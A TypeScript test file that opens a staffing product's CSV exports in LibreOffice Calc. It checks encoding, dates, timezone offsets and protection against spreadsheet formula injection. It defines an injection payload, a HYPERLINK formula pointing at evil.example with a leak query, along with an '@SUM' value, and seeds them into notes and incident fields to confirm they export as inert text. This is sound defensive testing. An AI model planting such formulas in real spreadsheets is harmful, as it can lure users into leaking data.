/**
 * Every CSV the product writes, opened in LibreOffice Calc as a user would open it, with data a real
 * desk has: accented and non-Latin names, the pound sign, notes that look like formulas (one of them on
 * two lines), negative differences, and incidents in the autumn hour that happens twice.
 */
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openTestApp, type TestApp, okData } from '../../support/app';
import { DESK_NOW, DESK_PASSWORD, DESK_SHIFTS, DESK_STAFF, seedDesk } from '../../support/deskWorld';
import { libreOfficeSheets, type Cell } from '../../support/realTools';

const EVIL = '=HYPERLINK("http://evil.example/?leak","Click for details")';
const EVIL_TWO_LINES = `${EVIL}\nSecond line of the note`;

let t: TestApp;
let written: Record<string, string>;
let sheets: Record<string, Cell[]>;

beforeAll(async () => {
  t = openTestApp({ start: DESK_NOW });
  const app = t.opened.app;
  await seedDesk(app);
  app.repos.staff.putMany([
    { ...DESK_STAFF.cleo, name: 'Zoë Brontë', phone: '+44 7700 900123' },
    { ...DESK_STAFF.rhea, name: 'Łukasz 李雷' },
  ]);
  app.repos.shifts.put([
    { ...DESK_SHIFTS.cleo, notes: EVIL },
    { ...DESK_SHIFTS.rhea, notes: EVIL_TWO_LINES },
  ]);
  const [seeded] = app.repos.incidents.inMonths(['2026-11'], ['CH']);
  app.repos.incidents.put([
    // 01:30 BST and 01:30 GMT on the night the clocks go back: the same wall-clock time, an hour apart.
    {
      ...seeded,
      id: 'incident_dst_0001',
      ref: 'CH-2026-0030',
      occurredAt: '2026-10-25T00:30:00.000Z',
      reportedAt: '2026-10-25T00:40:00.000Z',
      details: EVIL_TWO_LINES,
      location: '@SUM(A1:A9)',
    },
    {
      ...seeded,
      id: 'incident_dst_0002',
      ref: 'CH-2026-0031',
      occurredAt: '2026-10-25T01:30:00.000Z',
      reportedAt: '2026-10-25T01:40:00.000Z',
      details: '-2 people at the gate, +1 later',
    },
  ]);
  app.repos.log.put([
    { ...app.repos.log.partition('2026-11/CH')['log_ch_00000001'], id: 'log_ch_00000009', time: '07:30', text: EVIL_TWO_LINES },
  ]);

  const m = t.session();
  okData(await t.call('auth:sign-in', { username: 'manager', password: DESK_PASSWORD }, m));
  // Nia's night shift (Tue 24 Nov 19:00–07:00) signed out after midnight, and Carla's sign-in put right, as the desk corrects them.
  const correct = { attendanceId: 'att_night_00001', signedOutAt: '2026-11-25T06:55:00.000Z', reason: 'Forgot to sign out' };
  okData(await t.call('today:correct', correct, m));
  okData(
    await t.call(
      'today:correct',
      { attendanceId: 'att_carla_00001', signedInAt: '2026-11-25T05:00:00.000Z', reason: 'Desk clock fast' },
      m,
    ),
  );
  const range = { from: '2026-11-23', to: '2026-11-29', site: 'CH' };
  written = {
    rota: okData(await t.call('rota:export-csv', { week: '2026-11-23', site: 'CH' }, m)).text,
    incidents: okData(await t.call('incidents:export-csv', {}, m)).text,
    log: okData(await t.call('log:export-csv', { site: 'CH', date: '2026-11-25' }, m)).text,
    staff: okData(await t.call('staff:export', { includePay: true }, m)).text,
    timesheet: okData(await t.call('attendance:timesheet-csv', range, m)).text,
    workingTime: okData(await t.call('attendance:working-time', range, m)).csv.text,
    hours: okData(await t.call('reports:hours', range, m)).csv.text,
    cover: okData(await t.call('reports:cover', range, m)).csv.text,
    cost: okData(await t.call('reports:cost', range, m)).csv.text,
    incidentCounts: okData(await t.call('reports:incidents', { ...range, from: '2026-10-01' }, m)).csv.text,
    licences: okData(await t.call('reports:licences', { within: 90, site: null }, m)).csv.text,
  };
  sheets = libreOfficeSheets(written);
}, 180_000);
afterAll(() => t?.opened.close());

/** The cell LibreOffice made of row `r`, column `c` (0-based, the header is row 0). */
const cellAt = (cells: Cell[], r: number, c: number) => cells.find((x) => x.row === r && x.col === c);
const column = (name: string, header: string) => {
  const cells = sheets[name];
  const col = cells.find((c) => c.row === 0 && c.value === header)?.col;
  if (col === undefined) throw new Error(`${name} has no column "${header}"`);
  return cells.filter((c) => c.col === col && c.row > 0);
};
// Calc's day count for an ISO date: days since 30 Dec 1899.
const serialOf = (iso: string) => Math.round((Date.parse(`${iso}T00:00:00Z`) - Date.UTC(1899, 11, 30)) / 86_400_000);

describe('every CSV export opened in LibreOffice Calc', () => {
  it('has no formula cell anywhere', () => {
    const formulas = Object.entries(sheets).flatMap(([name, cells]) =>
      cells.filter((c) => c.formula !== null).map((c) => `${name}!${c.ref}: =${c.formula}`),
    );
    console.log(`Formula cells found in ${Object.keys(sheets).length} CSV exports: ${formulas.length}`);
    expect(formulas).toEqual([]);
  });

  it('reads each cell back as what was written: text as text, numbers as numbers, ISO dates as dates', () => {
    for (const [name, text] of Object.entries(written)) {
      expect(text.startsWith('\uFEFF'), `${name} starts with a UTF-8 BOM`).toBe(true);
      const rows = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
      rows.forEach((row, r) =>
        row.forEach((value, c) => {
          const cell = cellAt(sheets[name], r, c);
          const where = `${name} row ${r + 1} column ${c + 1} (${JSON.stringify(value)})`;
          if (value === '') expect(cell?.value ?? '', where).toBe('');
          else if (/^-?\d+(\.\d+)?$/.test(value)) expect([cell?.type, Number(cell?.value)], where).toEqual(['n', Number(value)]);
          else if (/^\d{4}-\d\d-\d\d$/.test(value)) expect([cell?.type, Number(cell?.value)], where).toEqual(['n', serialOf(value)]);
          else expect([cell?.type, cell?.value], where).toEqual(['s', value]);
        }),
      );
    }
  });

  it('shows names and the pound sign as typed, not as ZoÃ« or Â£', () => {
    for (const name of ['rota', 'staff', 'timesheet', 'hours']) {
      const texts = sheets[name].map((c) => c.value);
      expect(texts, name).toContain('Zoë Brontë');
      expect(texts.join(' '), name).not.toMatch(/Ã|Â/);
    }
    expect(sheets.rota.map((c) => c.value)).toContain('Łukasz 李雷');
    expect(sheets.cost.filter((c) => c.row === 0).map((c) => c.value)).toContain('Cost (£)');
  });

  it('keeps a formula-looking note as visible text, one line or two', () => {
    const notes = column('rota', 'Notes').map((c) => [c.type, c.value]);
    expect(notes).toContainEqual(['s', `'${EVIL}`]);
    expect(notes).toContainEqual(['s', `'${EVIL_TWO_LINES}`]);
    expect(column('incidents', 'Location').map((c) => c.value)).toContain("'@SUM(A1:A9)");
    expect(column('log', 'Entry').map((c) => c.value)).toContain(`'${EVIL_TWO_LINES}`);
  });

  it('reads each correction on the timesheet in words and UK time, not a field name and an ISO timestamp', () => {
    const corrections = column('timesheet', 'Corrections')
      .map((c) => [c.type, c.value])
      .filter(([, v]) => v !== '');
    expect(corrections.sort()).toEqual([
      ['s', 'Sign-in 04:58 → 05:00 (Desk clock fast)'],
      ['s', 'Sign-out — → 06:55 on Wed 25 Nov (Forgot to sign out)'],
    ]);
  });

  it('names a service with the same word in the timesheet as in the rota and cover exports', () => {
    const words = (name: string) => [...new Set(column(name, 'Service').map((c) => c.value))].sort();
    expect(words('timesheet')).toEqual(['Cleaning', 'Reception', 'Security']);
    expect(words('rota')).toEqual(words('timesheet'));
    expect(words('cover')).toEqual(words('timesheet'));
  });

  it('keeps a 16-digit SIA licence number whole', () => {
    expect(column('licences', 'SIA licence').map((c) => [c.type, c.value])).toContainEqual(['s', '6543 2109 8765 4321']);
  });

  it('keeps negative hours a number that SUM counts', () => {
    const differences = column('hours', 'Difference');
    expect(differences.length).toBeGreaterThan(0);
    expect(differences.every((c) => c.type === 'n')).toBe(true);
    expect(differences.some((c) => Number(c.value) < 0)).toBe(true);
    const paid = column('hours', 'Paid hours');
    const contracted = column('hours', 'Contracted hours');
    differences.forEach((d, i) => expect(Number(d.value)).toBeCloseTo(Number(paid[i].value) - Number(contracted[i].value), 2));
  });

  it('tells the two 01:30s of the night the clocks go back apart, and writes every time with its offset', () => {
    expect(
      column('incidents', 'Occurred')
        .map((c) => c.value)
        .filter((v) => v.startsWith('2026-10-25'))
        .sort(),
    ).toEqual(['2026-10-25T01:30+00:00', '2026-10-25T01:30+01:00']);
    for (const [name, header] of [
      ['timesheet', 'Actual in'],
      ['timesheet', 'Scheduled start'],
      ['rota', 'Start'],
      ['log', 'Time'],
      ['log', 'Written at'],
    ] as const) {
      const values = column(name, header).map((c) => c.value);
      expect(values.length, `${name} ${header}`).toBeGreaterThan(0);
      for (const v of values) expect(v, `${name} ${header}`).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d[+-]\d\d:\d\d$/);
    }
  });
});
